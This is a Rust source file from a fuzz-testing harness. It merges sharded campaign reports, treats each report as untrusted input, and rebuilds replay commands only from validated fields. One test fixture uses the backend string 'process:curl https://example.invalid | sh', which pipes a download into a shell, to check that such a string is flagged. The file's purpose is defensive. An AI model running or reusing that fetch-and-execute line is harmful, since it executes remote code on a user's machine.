//! Shard reports merged into one (`dmlcts fuzz merge REPORT.json...`): the campaign's `--json`
//! reports of its shards (`--shard I/N`, each on its own machine) read back, checked to be of
//! one campaign (the same seed, suite, backend and shard count; no shard twice), and merged:
//! counts summed, buckets deduplicated by signature with their hits summed and the earliest
//! case (lowest index) kept. Reports are untrusted input: each is read with the harness's
//! bounded reader, and every error names the file and the field.

use dmlcts_harness::corpus::read::{FileKind, Links, read_text};
use dmlcts_harness::report::coverage::Coverage;
use dmlcts_harness::text;
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use std::path::Path;

/// Campaign reports: 16 MiB each (a report of 20 buckets with their failure texts is about
/// 100 KB; a campaign keeps at most `--max-findings` buckets, each failure text bounded).
pub const FUZZ_REPORT: FileKind = FileKind {
    name: "fuzz report",
    max_bytes: 16 << 20,
    max_nodes: 0,
    usual_nesting: 0,
    expecting: "a fuzz campaign's --json report",
};

/// What one merge may read, all its reports together: 64 MiB of text and 2 Mi JSON values
/// (values, keys, lists and objects). Each is costed before it is parsed (its size from the
/// file system, its values counted on the text), so a merge's memory stays under about
/// 400 MiB (the text, and about 100 bytes per parsed value with the merged copy) whatever
/// the reports hold, and past the budget the merge is an error naming the file (and line).
pub(crate) const MERGE_MAX_BYTES: u64 = 64 << 20;
pub(crate) const MERGE_MAX_NODES: usize = 2 << 20;

/// What is left of the merge's budget.
struct Budget {
    bytes: u64,
    nodes: usize,
}

/// Counts the JSON values `text` writes, keys included (an upper bound: one per `,`, `:`, `[`,
/// `{` outside strings, plus one), stopping at the line where they pass `max`; never more
/// than `max` when it returns a count.
fn count_json_values(text: &str, max: usize) -> Result<usize, usize> {
    let (mut count, mut line) = (1usize, 1usize);
    let (mut in_string, mut escaped) = (false, false);
    for b in text.bytes() {
        if b == b'\n' {
            line += 1;
        }
        if in_string {
            match (escaped, b) {
                (true, _) => escaped = false,
                (false, b'\\') => escaped = true,
                (false, b'"') => in_string = false,
                _ => {}
            }
            continue;
        }
        match b {
            b'"' => in_string = true,
            b',' | b':' | b'[' | b'{' => {
                count += 1;
                if count > max {
                    return Err(line);
                }
            }
            _ => {}
        }
    }
    if count > max {
        return Err(line);
    }
    Ok(count)
}

/// The most characters of a value a message quotes.
const QUOTED: usize = 64;

/// One shard's report, read and checked.
struct ShardReport {
    file: String,
    report: Map<String, Value>,
}

impl ShardReport {
    fn read(path: &Path, budget: &mut Budget) -> Result<ShardReport, String> {
        let file = path.display().to_string();
        let shown = text::line(&file).into_owned();
        // Costed before it is read: the bytes, then the values, against what is left.
        let size = std::fs::metadata(path).map_or(0, |m| m.len());
        if size <= FUZZ_REPORT.max_bytes && size > budget.bytes {
            return Err(format!(
                "{shown}: {size} bytes, more than is left ({} bytes) of what one merge reads \
                 ({MERGE_MAX_BYTES} bytes, {} MiB, all its reports together): not read",
                budget.bytes,
                MERGE_MAX_BYTES >> 20
            ));
        }
        let kind = FileKind {
            max_bytes: FUZZ_REPORT.max_bytes.min(budget.bytes.max(size)),
            ..FUZZ_REPORT
        };
        let content = read_text(path, &kind, Links::Follow).map_err(|e| e.in_file(&shown))?;
        budget.bytes = budget.bytes.saturating_sub(content.len() as u64);
        let values = count_json_values(&content, budget.nodes).map_err(|line| {
            format!(
                "{shown}:{line}: more JSON values by this line than are left ({}) of what one \
                 merge parses ({MERGE_MAX_NODES}, all its reports together): not parsed",
                budget.nodes
            )
        })?;
        budget.nodes -= values;
        let value: Value = serde_json::from_str(&content).map_err(|e| {
            format!(
                "{shown}:{}: not JSON: {}",
                e.line(),
                quoted(&e.to_string(), 200)
            )
        })?;
        let Value::Object(report) = value else {
            return Err(format!("{shown}: not a fuzz report (not a JSON object)"));
        };
        let shard = ShardReport {
            file: shown,
            report,
        };
        for field in ["seed", "cases_run", "descriptors_run"] {
            shard.number(field)?;
        }
        shard.text("backend")?;
        shard.shard()?;
        shard.buckets()?;
        Ok(shard)
    }

    fn error(&self, field: &str, what: &str) -> String {
        format!("{}: field `{field}`: {what}", self.file)
    }

    fn number(&self, field: &str) -> Result<u64, String> {
        match self.report.get(field) {
            Some(v) => v.as_u64().ok_or_else(|| {
                self.error(
                    field,
                    &format!("{} is not a count", quoted(&v.to_string(), QUOTED)),
                )
            }),
            None => Err(self.error(field, "missing")),
        }
    }

    fn text(&self, field: &str) -> Result<&str, String> {
        match self.report.get(field) {
            Some(Value::String(s)) => Ok(s),
            Some(v) => Err(self.error(
                field,
                &format!("{} is not a string", quoted(&v.to_string(), QUOTED)),
            )),
            None => Err(self.error(field, "missing")),
        }
    }

    /// `(I, N)` from `"I/N"`.
    fn shard(&self) -> Result<(u64, u64), String> {
        let text = self.text("shard")?;
        let parsed = text.split_once('/').and_then(|(i, n)| {
            let (i, n) = (i.parse::<u64>().ok()?, n.parse::<u64>().ok()?);
            (n > 0 && i < n).then_some((i, n))
        });
        parsed.ok_or_else(|| self.error("shard", &format!("{} is not I/N", quoted(text, QUOTED))))
    }

    fn buckets(&self) -> Result<Vec<&Map<String, Value>>, String> {
        let Some(Value::Array(buckets)) = self.report.get("buckets") else {
            return Err(self.error("buckets", "missing, or not a list"));
        };
        let mut out = Vec::new();
        for (i, bucket) in buckets.iter().enumerate() {
            let field = format!("buckets[{i}]");
            let Value::Object(bucket) = bucket else {
                return Err(self.error(&field, "not an object"));
            };
            for name in ["signature", "status"] {
                if !bucket.get(name).is_some_and(Value::is_string) {
                    return Err(self.error(&format!("{field}.{name}"), "missing, or not a string"));
                }
            }
            for name in ["count", "first_case_index"] {
                if !bucket.get(name).is_some_and(Value::is_u64) {
                    return Err(self.error(&format!("{field}.{name}"), "missing, or not a count"));
                }
            }
            out.push(bucket);
        }
        Ok(out)
    }
}

/// A value from a file, quoted for a message: one line, escaped, at most `max` characters.
fn quoted(value: &str, max: usize) -> String {
    let escaped = text::line(value);
    let total = escaped.chars().count();
    if total <= max {
        format!("`{escaped}`")
    } else {
        let kept: String = escaped.chars().take(max).collect();
        format!("`{kept}…` ({total} characters)")
    }
}

/// The merged report of the shard reports at `paths` (at least one), or why they cannot be
/// merged, naming the file.
pub fn merge_reports(paths: &[&Path]) -> Result<Value, String> {
    let mut budget = Budget {
        bytes: MERGE_MAX_BYTES,
        nodes: MERGE_MAX_NODES,
    };
    let shards: Vec<ShardReport> = paths
        .iter()
        .map(|p| ShardReport::read(p, &mut budget))
        .collect::<Result<_, _>>()?;
    let Some(first) = shards.first() else {
        return Err("no reports to merge".to_string());
    };
    let (_, count) = first.shard()?;
    let mut seen: BTreeMap<u64, &str> = BTreeMap::new();
    for shard in &shards {
        same(first, shard, "seed")?;
        same(first, shard, "suite")?;
        same(first, shard, "backend")?;
        let (index, n) = shard.shard()?;
        if n != count {
            return Err(shard.error(
                "shard",
                &format!("{index}/{n}, but {} is a shard of {count}", first.file),
            ));
        }
        if let Some(other) = seen.insert(index, &shard.file) {
            return Err(shard.error(
                "shard",
                &format!("shard {index}/{n} again (also in {other}): its hits would count twice"),
            ));
        }
    }
    // Counts from report files are summed saturating: a hostile file cannot overflow them.
    let sum = |field: &str| -> Result<u64, String> {
        (shards.iter()).try_fold(0u64, |total, s| Ok(total.saturating_add(s.number(field)?)))
    };
    let mut levels: BTreeMap<String, u64> = BTreeMap::new();
    for shard in &shards {
        if let Some(Value::Object(map)) = shard.report.get("feature_levels") {
            for (level, n) in map {
                let count = levels.entry(level.clone()).or_default();
                *count = count.saturating_add(n.as_u64().unwrap_or(0));
            }
        }
    }
    let backend = first.text("backend")?;
    let buckets: Vec<Value> = (merged_buckets(&shards)?.into_iter())
        .map(|b| with_rebuilt_replay(b, backend))
        .collect();
    let descriptors = sum("descriptors_run")?;
    let skipped: u64 = (shards.iter())
        .filter_map(|s| s.report.get("skipped_descriptors").and_then(Value::as_u64))
        .fold(0, u64::saturating_add);
    let new = (buckets.iter()).filter(|b| b["status"] == "new").count();
    let seconds = (shards.iter())
        .filter_map(|s| s.report.get("seconds").and_then(Value::as_f64))
        .fold(0.0, f64::max);
    Ok(json!({
        "backend": first.report.get("backend"),
        "device": first.report.get("device"),
        "suite": first.report.get("suite"),
        "seed": first.report.get("seed"),
        "shard": format!("{}/{count} merged", seen.len()),
        "shards": seen.keys().map(|i| format!("{i}/{count}")).collect::<Vec<_>>(),
        "merged_from": shards.iter().map(|s| s.file.clone()).collect::<Vec<_>>(),
        "feature_levels": levels,
        "cases_run": sum("cases_run")?,
        "descriptors_run": descriptors,
        "seconds": seconds,
        "new_findings": new,
        "skipped_descriptors": skipped,
        "skipped_everything": descriptors > 0 && skipped >= descriptors,
        "skip_reasons": merged_skip_reasons(&shards),
        "unclassified_failures": (shards.iter())
            .filter_map(|s| s.report.get("unclassified_failures").and_then(Value::as_u64))
            .fold(0, u64::saturating_add),
        "summary": summary_line(&buckets, skipped, descriptors),
        "coverage": merged_coverage(&shards),
        // What each shard said repeats it: text, never a command (nothing checks it).
        "reported_shard_replays": (shards.iter())
            .map(|s| s.report.get("replay").cloned().unwrap_or(Value::Null))
            .collect::<Vec<_>>(),
        "buckets": buckets,
    }))
}

/// A bucket's replay command, rebuilt from checked fields only (the backend every shard
/// names, the saved case's file, the case name the campaign gives a saved case:
/// `regression.BACKEND.SIGNATURE`), as words each quoted: `dmlcts conformance --backend NAME
/// --cases FILE --filter NAME --exact`. What the shard's report said (its `replay`) is kept
/// as `reported_replay`, text for people, never printed or saved as a command: a report is a
/// file anyone can write.
fn with_rebuilt_replay(bucket: Value, backend: &str) -> Value {
    let Value::Object(mut bucket) = bucket else {
        return bucket;
    };
    if let Some(reported) = bucket.remove("replay")
        && !reported.is_null()
    {
        bucket.insert("reported_replay".into(), reported);
    }
    let signature = bucket["signature"].as_str().unwrap_or_default().to_string();
    if !is_backend_name(backend) {
        // The backend is a server's command line, text from the reports: the replay runs it.
        bucket.insert(
            "replay_runs".into(),
            json!(format!(
                "the server command line the shards' reports name: {}",
                quoted(backend, 200)
            )),
        );
    }
    if let Some(Value::String(saved)) = bucket.get("saved_case") {
        let name = format!(
            "regression.{}.{signature}",
            crate::save::short_slug(backend)
        );
        let replay = crate::replay::Replay::new(["dmlcts", "conformance", "--backend", backend])
            .args(dmlcts_harness::run::option_words("--cases", saved))
            .args(dmlcts_harness::run::option_words("--filter", &name))
            .args(["--exact"]);
        bucket.insert("replay".into(), json!(replay.render()));
    }
    Value::Object(bucket)
}

/// Whether a shard's backend is a name (built in, or a backends file's entry, a variant
/// after `@`) rather than a command line (`process:...`): only a name goes into a rebuilt
/// replay command.
fn is_backend_name(backend: &str) -> bool {
    !backend.is_empty()
        && backend.len() <= 256
        && !backend.starts_with('-')
        && (backend.chars()).all(|c| c.is_ascii_alphanumeric() || "._@-".contains(c))
}

/// Refuses reports whose `field` differs from the first's.
fn same(first: &ShardReport, other: &ShardReport, field: &str) -> Result<(), String> {
    let a = first.report.get(field);
    let b = other.report.get(field);
    if a == b {
        return Ok(());
    }
    let show = |v: Option<&Value>| v.map_or("(none)".to_string(), |v| quoted(&v.to_string(), 120));
    Err(other.error(
        field,
        &format!(
            "{}, but {} has {}: reports of different campaigns cannot be merged",
            show(b),
            first.file,
            show(a)
        ),
    ))
}

/// The buckets of every shard by signature: hits and shrinking summed, the fields of the hit
/// with the lowest case index kept; new first, then known, then informational.
fn merged_buckets(shards: &[ShardReport]) -> Result<Vec<Value>, String> {
    let mut merged: BTreeMap<String, Map<String, Value>> = BTreeMap::new();
    for shard in shards {
        for bucket in shard.buckets()? {
            let id = bucket["signature"].as_str().unwrap_or_default().to_string();
            let Some(kept) = merged.get_mut(&id) else {
                merged.insert(id, bucket.clone());
                continue;
            };
            let index = |b: &Map<String, Value>| b["first_case_index"].as_u64().unwrap_or(0);
            let total = |name: &str| {
                let n = |b: &Map<String, Value>| b.get(name).and_then(Value::as_u64).unwrap_or(0);
                n(kept).saturating_add(n(bucket))
            };
            let (count, shrinks, checks) =
                (total("count"), total("shrinks"), total("shrink_checks"));
            let seconds = [&*kept, bucket]
                .iter()
                .filter_map(|b| b.get("shrink_seconds").and_then(Value::as_f64))
                .sum::<f64>();
            if index(bucket) < index(kept) {
                *kept = bucket.clone();
            }
            kept.insert("count".into(), json!(count));
            kept.insert("shrinks".into(), json!(shrinks));
            kept.insert("shrink_checks".into(), json!(checks));
            kept.insert("shrink_seconds".into(), json!(seconds));
        }
    }
    let rank = |b: &Map<String, Value>| match b["status"].as_str() {
        Some("new") => 0,
        Some("known") => 1,
        _ => 2,
    };
    let mut buckets: Vec<Map<String, Value>> = merged.into_values().collect();
    buckets.sort_by_key(|b| (rank(b), b["first_case_index"].as_u64().unwrap_or(0)));
    Ok(buckets.into_iter().map(Value::Object).collect())
}

/// The shards' skip reasons summed by reason, kept as a campaign keeps them
/// (`SkipReasons`: at most its `KINDS` reasons, the rest under `OTHER_REASONS`).
fn merged_skip_reasons(shards: &[ShardReport]) -> Vec<Value> {
    let mut reasons = crate::outcome::SkipReasons::default();
    for shard in shards {
        let Some(Value::Array(entries)) = shard.report.get("skip_reasons") else {
            continue;
        };
        for entry in entries {
            let reason = entry["reason"].as_str().unwrap_or("?");
            reasons.add_many(reason, entry["count"].as_u64().unwrap_or(0));
        }
    }
    (reasons.by_count().into_iter())
        .map(|(reason, count)| json!({"reason": reason, "count": count}))
        .collect()
}

/// The closing line, as a campaign's: `N new findings; known: NAME x COUNT, ...`.
fn summary_line(buckets: &[Value], skipped: u64, descriptors: u64) -> String {
    let new = buckets.iter().filter(|b| b["status"] == "new").count();
    let mut line = format!("{new} new finding{}", if new == 1 { "" } else { "s" });
    let known: Vec<String> = (buckets.iter())
        .filter(|b| b["status"] == "known")
        .map(|b| {
            let name = b["known_as"].as_str().unwrap_or("?");
            format!("{} x {}", text::line(name), b["count"])
        })
        .collect();
    if !known.is_empty() {
        line.push_str(&format!("; known: {}", known.join(", ")));
    }
    let info: u64 = (buckets.iter())
        .filter(|b| b["status"] == "informational")
        .filter_map(|b| b["count"].as_u64())
        .fold(0, u64::saturating_add);
    if info > 0 {
        line.push_str(&format!("; informational (not enforced by design): {info}"));
    }
    if skipped > 0 {
        line.push_str(&format!(
            "; skipped (not run: unsupported, or not held here): {skipped} of {descriptors} \
             descriptors"
        ));
    }
    line
}

/// What the shards' campaigns reached, merged (`Coverage::merge`): null when a shard's report
/// has no coverage this suite can read (its statement would be partial).
fn merged_coverage(shards: &[ShardReport]) -> Value {
    let mut merged = Coverage::default();
    for shard in shards {
        match shard.report.get("coverage").and_then(Coverage::from_json) {
            Some(coverage) => merged.merge(&coverage),
            None => return Value::Null,
        }
    }
    merged.json()
}

#[cfg(test)]
mod budget_tests {
    use super::{count_json_values, with_rebuilt_replay};
    use serde_json::json;

    #[test]
    fn a_replay_for_a_command_line_backend_says_it_runs_the_reports_command() {
        let bucket = || json!({"signature": "abc", "saved_case": "cases/r.yaml", "replay": "x"});
        let named = with_rebuilt_replay(bucket(), "directml@1.15.4");
        assert_eq!(
            named["replay"],
            "dmlcts conformance --backend directml@1.15.4 --cases cases/r.yaml --filter \
             regression.directml_1_15_4.abc --exact"
        );
        assert!(named.get("replay_runs").is_none());
        let command = with_rebuilt_replay(bucket(), "process:curl https://example.invalid | sh");
        assert_eq!(command["reported_replay"], "x");
        assert!(
            (command["replay_runs"].as_str().unwrap())
                .ends_with("name: `process:curl https://example.invalid | sh`"),
            "{command}"
        );
    }

    #[test]
    fn a_count_never_passes_what_is_left_even_for_a_report_with_no_separators() {
        // A bare value is one; with nothing left of the budget it is refused, not counted.
        assert_eq!(count_json_values("7", 1), Ok(1));
        assert_eq!(count_json_values("7", 0), Err(1));
        // Keys count as values: an object of n pairs holds 2n of them.
        assert_eq!(count_json_values(r#"{"a": 1, "b": 2}"#, 100), Ok(5));
        assert_eq!(count_json_values("{\"a\": 1,\n\"b\": 2}", 4), Err(2));
        // Separators inside strings are text.
        assert_eq!(count_json_values(r#"":,[{""#, 1), Ok(1));
    }
}
